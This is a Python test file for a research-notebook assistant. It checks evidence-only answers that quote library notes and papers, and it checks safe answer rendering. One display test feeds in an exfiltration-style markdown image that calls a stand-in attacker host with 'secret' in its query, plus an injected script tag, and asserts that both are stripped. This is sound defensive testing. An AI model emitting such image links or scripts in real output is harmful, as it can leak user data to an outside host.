"""Evidence-only answers (no LLM configured) and how answers display."""

from __future__ import annotations

import json
import re

from tests.fakes.agent_stack import Stack, assert_key_free
from zocrates_nb.agents.answer import Answer, Citation, TurnUsage, without_remote_images
from zocrates_nb.agents.evidence_only import LABEL, best_passage

# Demo library: a short child note (inlined whole) and the long notes the question also finds.
QUESTION = "Does the Slide-seq bead size matter for lymph node follicles?"
SHORT_NOTE_KEY = "W2KJVEB4"
SHORT_NOTE_TEXT = (
    "TODO: does the 10 µm bead size matter for lymph node follicles (200–500 µm across)? "
    "Probably fine for zones, not for single Tfh cells."
)
SHORT_NOTE_PARENT = (
    "*Highly sensitive spatial transcriptomics at near-cellular resolution with Slide-seqV2* (Stickels et al., 2021)"
)


def test_evidence_only_answer_quotes_the_library_without_keys(demo_workbench):
    stack = Stack(demo_workbench, None)  # no llm.base_url: the embedded default
    tokens: list[str] = []
    answer = stack.coordinator.ask(QUESTION, on_token=tokens.append)
    assert answer.mode == "evidence-only" and answer.text.startswith(f"**{LABEL}**")
    assert tokens == [answer.text]
    assert_key_free(answer.text, demo_workbench)
    hits = demo_workbench.tools.search_corpus(QUESTION, k=8).hits
    # the short note is the top hit and is quoted whole, headed by its title and its paper
    assert hits[0].key == SHORT_NOTE_KEY and hits[0].word_count < 50
    assert f"> {SHORT_NOTE_TEXT}" in answer.text
    assert re.search(
        r"1\. Your note \*\*“TODO: does the 10 µm bead size[^”]*”\*\*, on " + re.escape(SHORT_NOTE_PARENT), answer.text
    )
    short = next(c for c in answer.citations if c.key == SHORT_NOTE_KEY)
    assert short.kind == "note" and short.citation == "note on Stickels et al., 2021"
    # the first two long notes found were read in full and their best paragraph quoted
    long_notes = [h.key for h in hits if h.kind == "note" and h.word_count >= 50][:2]
    assert answer.read_keys == long_notes and len(long_notes) == 2
    for key in long_notes:
        passage = best_passage(demo_workbench.corpus.read_document(key), QUESTION)
        assert passage and all(f"> {line}" in answer.text for line in passage.splitlines() if line.strip())
        title = demo_workbench.corpus.manifest(key)["title"]
        assert f"Your note **“{title}”**" in answer.text
    assert answer.usage["total"]["calls"] == 0 and answer.usage["total"]["total_tokens"] == 0
    assert {e["source"] for e in answer.evidence} == {"search_corpus", "read_document"}
    assert {c.key for c in answer.citations} == {e["key"] for e in answer.evidence}
    [event] = stack.events_of("answer")
    assert event["mode"] == "evidence-only" and event["read_keys"] == answer.read_keys
    assert stack.events_of("llm") == []


def test_evidence_only_quotes_a_papers_best_paragraph_with_its_citation(demo_workbench):
    answer = Stack(demo_workbench, None).coordinator.ask("Which RCTD mode should I use on Visium?")
    assert (
        "Your note **“RCTD modes on Visium”**, on *Robust decomposition of cell type mixtures in "
        "spatial transcriptomics* (Cable et al., 2022)" in answer.text
    )
    assert (
        "**Robust decomposition of cell type mixtures in spatial transcriptomics** (Cable et al., 2022)" in answer.text
    )
    # the quoted paragraph comes from the paper chunk the retrievers rank best; since chunks fit the
    # model's window (issue 11) that is the chunk on its modes and the Visium/Slide-seq use
    paper_part = answer.text.split(
        "**Robust decomposition of cell type mixtures in spatial transcriptomics** (Cable et al., 2022)", 1
    )[1].split("_For a written answer", 1)[0]
    assert "> " in paper_part and "mode" in paper_part
    paper = next(c for c in answer.citations if c.kind == "paper")
    assert paper.citation == "Cable et al., 2022"
    assert_key_free(answer.text, demo_workbench)


def test_evidence_only_with_nothing_found_says_what_to_do(tmp_path):
    from zocrates_nb.workbench.core import Workbench

    empty = Workbench(tmp_path / "never-synced", auto_sync=False)  # nothing indexed yet
    try:
        answer = Stack(empty, None).coordinator.ask("Which RCTD mode should I use on Visium?")
    finally:
        empty.close()
    assert answer.mode == "evidence-only" and "Nothing in your library matches" in answer.text
    assert "zocrates-nb sync" in answer.text and "zocrates-nb llm set" in answer.text
    assert answer.citations == [] and answer.read_keys == []


def test_best_passage_picks_the_matching_paragraph():
    md = "# T\n\nAbout mice and brains.\n\nDeconvolution with RCTD is fast.\n\nOther things."
    assert best_passage(md, "Is RCTD deconvolution fast?") == "Deconvolution with RCTD is fast."


def _answer(text: str) -> Answer:
    usage = TurnUsage()
    usage.add(
        "library_synthesizer",
        {"prompt_tokens": 10, "completion_tokens": 5, "profile_tokens": 2, "cost_usd": None, "latency_ms": 3},
    )
    return Answer(
        text=text,
        citations=[Citation("A note", "note", "note", key="NTAB2345")],
        evidence=[{"key": "NTAB2345", "kind": "note", "title": "A note", "text": "x"}],
        usage=usage.as_dict(),
        mode="llm",
        session_id="s1",
    )


def test_answer_display_loads_no_remote_image_and_runs_no_script():
    answer = _answer(
        "See ![chart](https://evil.example/leak?q=secret) and <img src=https://evil.example/x.png>"
        "<script>alert(1)</script> with $\\alpha$."
    )
    html = answer._repr_html_()
    markdown = answer._repr_markdown_()
    for rendered in (html, markdown):
        assert "<img" not in rendered and "![chart]" not in rendered and "<script" not in rendered.lower()
    assert "NTAB2345" not in html and "NTAB2345" not in markdown and "NTAB2345" not in repr(answer)
    assert "$\\alpha$" in html


def test_answer_json_shape_and_usage_totals():
    data = json.loads(json.dumps(_answer("Text.").to_json()))
    assert set(data) >= {"answer", "citations", "evidence", "usage", "mode"}
    assert data["citations"] == [{"title": "A note", "citation": "note", "kind": "note"}]
    assert data["usage"]["total"]["total_tokens"] == 15 and data["usage"]["total"]["cost_usd"] is None
    assert without_remote_images("![a](http://x/y.png)") == "[image: a](http://x/y.png)"
